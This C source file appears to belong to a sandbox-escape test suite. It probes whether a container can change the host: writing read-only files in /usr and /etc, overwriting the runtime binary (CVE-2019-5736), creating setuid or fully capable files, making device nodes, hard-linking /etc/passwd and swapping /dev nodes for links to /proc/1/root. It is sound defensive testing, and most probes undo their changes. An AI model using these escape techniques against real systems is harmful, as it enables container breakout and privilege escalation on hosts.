/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* Changing what is the host's: its files, the program that runs us, what a writable directory shows to the host. */

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static Verdict keep_by_path(Attempt *a)
{
        char path[PATH_ROOM];

        return by_result(a, write_to(host_path(a, "keep", path), "x"), "writing");
}

/* ---- a tree that is read-only ---- */

/* Each returns 0 or more when the file system would have let it happen; none changes what is there. */
static long create(const char *dir, const char *file)
{
        char path[PATH_ROOM];

        (void)file;
        snprintf(path, sizeof path, "%s/skep-escape", dir);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0)
                unlink(path);
        return fd;
}

static long make_directory(const char *dir, const char *file)
{
        char path[PATH_ROOM];

        (void)file;
        snprintf(path, sizeof path, "%s/skep-escape", dir);
        int r = mkdir(path, 0755);
        if (r == 0)
                rmdir(path);
        return r;
}

static long make_link(const char *dir, const char *file)
{
        char path[PATH_ROOM];

        snprintf(path, sizeof path, "%s/skep-escape", dir);
        int r = symlink(file, path);
        if (r == 0)
                unlink(path);
        return r;
}

static long make_nameless(const char *dir, const char *file)
{
        (void)file;
        return open(dir, O_WRONLY | O_TMPFILE | O_CLOEXEC, 0644);
}

static long open_to_write(const char *dir, const char *file)
{
        (void)dir;
        return open(file, O_WRONLY | O_CLOEXEC);
}

static long open_to_append(const char *dir, const char *file)
{
        (void)dir;
        return open(file, O_RDWR | O_APPEND | O_CLOEXEC);
}

static long reopen_to_write(const char *dir, const char *file)
{
        char link[64];
        int fd = open(file, O_PATH | O_CLOEXEC);

        (void)dir;
        if (fd < 0)
                return -1;
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        return open(link, O_WRONLY | O_CLOEXEC);
}

static long truncate_there(const char *dir, const char *file)
{
        struct stat st;

        (void)dir;
        return stat(file, &st) < 0 ? -1 : truncate(file, st.st_size);
}

static long truncate_open(const char *dir, const char *file)
{
        struct stat st;
        int fd = open(file, O_RDONLY | O_CLOEXEC);

        (void)dir;
        return fd < 0 || fstat(fd, &st) < 0 ? -1 : ftruncate(fd, st.st_size);
}

static long change_mode(const char *dir, const char *file)
{
        struct stat st;

        (void)dir;
        return stat(file, &st) < 0 ? -1 : chmod(file, st.st_mode & 0777);
}

static long change_times(const char *dir, const char *file)
{
        struct stat st;

        (void)dir;
        if (stat(file, &st) < 0)
                return -1;
        return utimensat(AT_FDCWD, file, (struct timespec[2]){st.st_atim, st.st_mtim}, 0);
}

static long change_attribute(const char *dir, const char *file)
{
        (void)dir;
        int r = setxattr(file, "user.skep-escape", "x", 1, 0);
        if (r == 0)
                removexattr(file, "user.skep-escape");
        return r;
}

static long rename_away(const char *dir, const char *file)
{
        char path[PATH_ROOM];

        snprintf(path, sizeof path, "%s/skep-escape", dir);
        int r = rename(file, path);
        if (r == 0)
                rename(path, file);
        return r;
}

static long link_within(const char *dir, const char *file)
{
        char path[PATH_ROOM];

        snprintf(path, sizeof path, "%s/skep-escape", dir);
        int r = link(file, path);
        if (r == 0)
                unlink(path);
        return r;
}

static const struct {
        const char *name;
        long (*change)(const char *dir, const char *file);
} changes[] = {
        {"creating a file", create},          {"creating a directory", make_directory},
        {"creating a link", make_link},       {"O_TMPFILE", make_nameless},
        {"opening to write", open_to_write},  {"opening to append", open_to_append},
        {"opening anew to write", reopen_to_write}, {"truncate", truncate_there},
        {"ftruncate", truncate_open},         {"chmod", change_mode},
        {"changing times", change_times},     {"setxattr", change_attribute},
        {"rename", rename_away},              {"link", link_within},
};

static Verdict change_tree(Attempt *a, const char *dir, const char *file)
{
        int refused = 0;

        if (access(file, F_OK) < 0)
                return not_applicable(a, "there is no %s", file);
        for (size_t i = 0; i < ELEMENTS(changes); i++) {
                if (changes[i].change(dir, file) >= 0)
                        return escaped(a, "%s in %s is permitted", changes[i].name, dir);
                refused = errno;
        }
        return held(a, "%zu ways, the last: %s", ELEMENTS(changes), strerrorname_np(refused));
}

/* DIRECTORY FILE */
static Verdict change_system(Attempt *a)
{
        char dir[64], file[64];

        sscanf(a->argument, "%63s %63s", dir, file);
        return change_tree(a, dir, file);
}

static Verdict change_bind(Attempt *a)
{
        char dir[PATH_ROOM], file[PATH_ROOM];

        return change_tree(a, host_path(a, "readonly", dir), host_path(a, "readonly/file", file));
}

/* ---- memory that is a file ---- */

static Verdict write_through_memory(Attempt *a)
{
        char path[PATH_ROOM];
        int file = open(host_path(a, "readonly/file", path), O_RDONLY | O_CLOEXEC),
            memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);

        if (file < 0)
                return not_applicable(a, "no directory of the host is bound read-only");
        char *shared = mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
        char *private = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
        if (shared == MAP_FAILED || private == MAP_FAILED)
                return held(a, "mmap: %s", strerrorname_np(errno));
        if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0)
                return escaped(a, "a shared mapping of it can be made writable");
        /* It writes a copy of a private page, and must not write a shared one. */
        pwrite(memory, "!", 1, (off_t)(size_t)private);
        if (pwrite(memory, "!", 1, (off_t)(size_t)shared) == 1 || !file_says(AT_FDCWD, path, KEPT))
                return escaped(a, "the file was written through /proc/self/mem");
        return held(a, "mprotect: EACCES, and the file is as it was");
}

/* ---- programs of the host ---- */

/* CVE-2019-5736, done as it was: nobody must execute the file when it is opened, so this process first becomes a copy of
 * itself in memory. */
static Verdict own_program(Attempt *a)
{
        char stage[32], link[32];
        int fd = (int)strtol(given(a, "stage"), NULL, 10);

        if (fd > 0) {
                snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
                int writable = open(link, O_WRONLY | O_CLOEXEC);
                return by_result(a, writable < 0 ? -1 : write(writable, "\177", 1), "writing to it");
        }
        int self = open("/proc/self/exe", O_PATH), source = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
        int copy = memfd_create("copy", MFD_CLOEXEC);
        struct stat st;
        if (copy < 0 || self < 0 || source < 0 || fstat(source, &st) < 0)
                return held(a, "no copy of it can be made: %s", strerrorname_np(errno));
        for (off_t at = 0; at < st.st_size;) {
                char block[65536];
                ssize_t n = pread(source, block, sizeof block, at);
                if (n <= 0 || write(copy, block, (size_t)n) != n)
                        return held(a, "copying it: %s", strerrorname_np(errno));
                at += n;
        }
        snprintf(stage, sizeof stage, "stage=%d", self);
        close(source);
        char *argv[] = {(char *)"escapes", (char *)"run", (char *)"own-program", stage,
                        (char *)(*given(a, "token") ? given(a, "token") : "-"), NULL};
        fexecve(copy, argv, environ);
        return by_result(a, -1, "executing the copy");
}

static int execute(void *argv)
{
        char **words = argv;
        int null = open("/dev/null", O_RDWR | O_CLOEXEC);

        dup2(null, 2);
        execvp(words[0], words);
        return 126;
}

static Verdict program_of_1(Attempt *a)
{
        struct stat own, its;

        if (stat("/proc/self/exe", &own) == 0 && stat("/proc/1/exe", &its) == 0 && own.st_ino == its.st_ino &&
            own.st_dev == its.st_dev)
                return not_applicable(a, "process 1 is this program");
        int fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return by_result(a, -1, "opening it");
        for (int i = 0; i < 50; i++) {
                int writable = open("/proc/1/exe", O_WRONLY | O_CLOEXEC);
                if (writable >= 0)
                        return escaped(a, "it can be written");
        }
        return held(a, "it can be read, and not written: %s", strerrorname_np(errno));
}

/* Where nothing may be executed, the loader may be, and would map it. */
static Verdict by_loader(Attempt *a)
{
        static const char *const loaders[] = {"/usr/bin/ld.so", "/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"};
        char path[PATH_ROOM], *loader = NULL;

        for (size_t i = 0; i < ELEMENTS(loaders) && !loader; i++)
                loader = access(loaders[i], X_OK) == 0 ? (char *)loaders[i] : NULL;
        if (!loader)
                return not_applicable(a, "there is no loader");
        snprintf(path, sizeof path, "%s/true", own_directory());
        char *copy[] = {(char *)"cp", (char *)"/usr/bin/true", path, NULL}, *direct[] = {path, NULL},
             *indirect[] = {loader, path, NULL};
        if (in_child(execute, copy) != 0)
                return not_applicable(a, "no program can be copied");
        if (in_child(execute, direct) == 0)
                return not_applicable(a, "it may be executed");
        return in_child(execute, indirect) == 0 ? escaped(a, "the loader ran it") : held(a, "it is not run");
}

/* ---- what a writable directory shows to the host ---- */

/* A directory of the host where we may write; "" when there is none. */
static const char *shared_directory(const Attempt *a, char path[static PATH_ROOM])
{
        host_path(a, "writable", path);
        return access(path, W_OK) == 0 ? path : "";
}

static long set_id_by_chmod(const char *path)
{
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);

        close(fd);
        return chmod(path, 06755);
}

static long set_id_by_fchmod(const char *path)
{
        return fchmod(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755), 06755);
}

static long set_id_by_fchmodat2(const char *path)
{
        close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755));
        return syscall(452, AT_FDCWD, path, 06755, 0);
}

static long set_id_by_open(const char *path)
{
        return open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 06755);
}

/* The mode behind junk in the half that the kernel does not look at. */
static long set_id_by_wide_mode(const char *path)
{
        return syscall(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0x100000000L | 06755L);
}

static long set_id_by_mknod(const char *path)
{
        return mknod(path, S_IFREG | 06755, 0);
}

static long set_id_by_directory(const char *path)
{
        return mkdir(path, 02777);
}

static const struct {
        const char *name;
        long (*make)(const char *path);
} set_ids[] = {
        {"chmod", set_id_by_chmod},   {"fchmod", set_id_by_fchmod},     {"fchmodat2", set_id_by_fchmodat2},
        {"open", set_id_by_open},     {"openat with junk above", set_id_by_wide_mode},
        {"mknod", set_id_by_mknod},   {"mkdir", set_id_by_directory},
};

static Verdict set_id(Attempt *a)
{
        char dir[PATH_ROOM], path[PATH_ROOM + 32];
        bool shared = *shared_directory(a, dir);
        struct statvfs fs;
        struct stat st;

        if (!shared)
                snprintf(dir, sizeof dir, "%s", own_directory());
        umask(0);
        for (size_t i = 0; i < ELEMENTS(set_ids); i++) {
                snprintf(path, sizeof path, "%s/set-id-%zu", dir, i);
                set_ids[i].make(path);
                if (stat(path, &st) < 0 || (st.st_mode & 06000) == 0)
                        continue;
                if (!shared && statvfs(dir, &fs) == 0 && (fs.f_flag & ST_NOSUID))
                        continue; /* nobody outside sees it, and in here it does nothing */
                return escaped(a, "by %s, %s", set_ids[i].name, shared ? "in a directory of the host" : dir);
        }
        return held(a, "%zu ways in %s", ELEMENTS(set_ids), shared ? "a directory of the host" : dir);
}

static Verdict file_capability(Attempt *a)
{
        char dir[PATH_ROOM], path[PATH_ROOM + 32];
        struct vfs_cap_data data = {.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE};

        if (!*shared_directory(a, dir))
                snprintf(dir, sizeof dir, "%s", own_directory());
        snprintf(path, sizeof path, "%s/capable", dir);
        close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755));
        data.data[0].permitted = data.data[0].inheritable = ~0U;
        return by_result(a, setxattr(path, "security.capability", &data, XATTR_CAPS_SZ_2, 0), "setxattr");
}

static Verdict owner(Attempt *a)
{
        char dir[PATH_ROOM], path[PATH_ROOM + 32];
        struct stat st;

        if (!*shared_directory(a, dir))
                snprintf(dir, sizeof dir, "%s", own_directory());
        snprintf(path, sizeof path, "%s/owned", dir);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        for (uid_t id = 0; fd >= 0 && id < 40; id++)
                if (id != getuid() && (fchown(fd, id, id) == 0 || chown(path, id, (gid_t)-1) == 0) &&
                    stat(path, &st) == 0 && st.st_uid == id)
                        return escaped(a, "a file was given to user %u", id);
        return held(a, "%s", strerrorname_np(errno));
}

static Verdict shared_node(Attempt *a)
{
        char dir[PATH_ROOM], path[PATH_ROOM + 32];

        if (!*shared_directory(a, dir))
                return not_applicable(a, "no directory of the host is writable");
        snprintf(path, sizeof path, "%s/node", dir);
        return by_result(a, mknod(path, S_IFCHR | 0666, makedev(1, 3)), "mknod");
}

/* A second name for a file of the host, where we may write to its directory. */
static Verdict hard_link(Attempt *a)
{
        char from[PATH_ROOM], dir[PATH_ROOM], to[PATH_ROOM + 32], link_path[64];
        const char *sources[] = {host_path(a, "readonly/file", from), "/usr/bin/env", "/etc/passwd", "/proc/self/exe"};

        if (!*shared_directory(a, dir))
                snprintf(dir, sizeof dir, "%s", own_directory());
        for (size_t i = 0; i < ELEMENTS(sources); i++) {
                int fd = open(sources[i], O_PATH | O_CLOEXEC);
                snprintf(link_path, sizeof link_path, "/proc/self/fd/%d", fd);
                snprintf(to, sizeof to, "%s/second-name-%zu", dir, i);
                if (link(sources[i], to) == 0 ||
                    linkat(AT_FDCWD, link_path, AT_FDCWD, to, AT_SYMLINK_FOLLOW) == 0 ||
                    linkat(fd, "", AT_FDCWD, to, AT_EMPTY_PATH) == 0 || rename(sources[i], to) == 0)
                        return escaped(a, "of %s", sources[i]);
        }
        return held(a, "%s", strerrorname_np(errno));
}

/* ---- what the sandbox is made on ---- */

/* Whoever makes the next sandbox over this tree would follow the link that we left. */
static Verdict swap(Attempt *a)
{
        char names[128], aside[64];

        snprintf(names, sizeof names, "%s", a->argument);
        for (char *rest = names, *name; (name = strsep(&rest, " "));) {
                struct stat st;
                if (lstat(name, &st) < 0)
                        continue;
                snprintf(aside, sizeof aside, "%s.aside", name);
                if (rename(name, aside) == 0) {
                        bool linked = symlink("/proc/1/root", name) == 0;
                        unlink(name);
                        rename(aside, name);
                        return escaped(a, "%s was replaced%s", name, linked ? " by a link" : "");
                }
                if (!S_ISDIR(st.st_mode) && unlink(name) == 0)
                        return escaped(a, "%s was removed", name);
        }
        return held(a, "%s", strerrorname_np(errno));
}

const Attack attacks_by_writing[] = {
        {"keep-by-path", "write to a file of the host that everybody may write", keep_by_path, NULL, 0, NULL},
        {"change-usr", "change something in /usr, in 14 ways", change_system, "/usr /usr/bin/env", 0, NULL},
        {"change-etc", "change something in /etc, in 14 ways", change_system, "/etc /etc/passwd", 0, NULL},
        {"change-input", "change an input, in 14 ways", change_system, "/input /input/escapes", 0, NULL},
        {"change-bind", "change what is bound read-only, in 14 ways", change_bind, NULL, 0, NULL},
        {"write-through-memory", "write a read-only file through a mapping", write_through_memory, NULL, 0, NULL},
        {"own-program", "overwrite the program that runs us (CVE-2019-5736)", own_program, NULL, FIRST_PROCESS, NULL},
        {"program-of-1", "overwrite the program of process 1", program_of_1, NULL, 0, NULL},
        {"by-loader", "run what may not be executed, by the loader", by_loader, NULL, 0, NULL},
        {"set-id", "make a file that is set user id, in 7 ways", set_id, NULL, 0, NULL},
        {"file-capability", "give a file all capabilities", file_capability, NULL, 0, NULL},
        {"give-away", "give a file to another user", owner, NULL, 0, NULL},
        {"shared-node", "make a device in a directory of the host", shared_node, NULL, 0, NULL},
        {"hard-link", "give a file of the host a second name", hard_link, NULL, 0, NULL},
        {"swap-destinations", "replace what was mounted on", swap, "/work /tmp /output /input /usr /etc /proc", 0, NULL},
        {"swap-null", "replace /dev/null and its like (CVE-2025-31133)", swap,
         "/dev/null /dev/zero /dev/full /dev/urandom /dev/random", 0, NULL},
        {"swap-pts", "replace /dev/pts and the console (CVE-2025-52565)", swap, "/dev/pts /dev/console /dev/shm /dev/tty",
         0, NULL},
        {0},
};
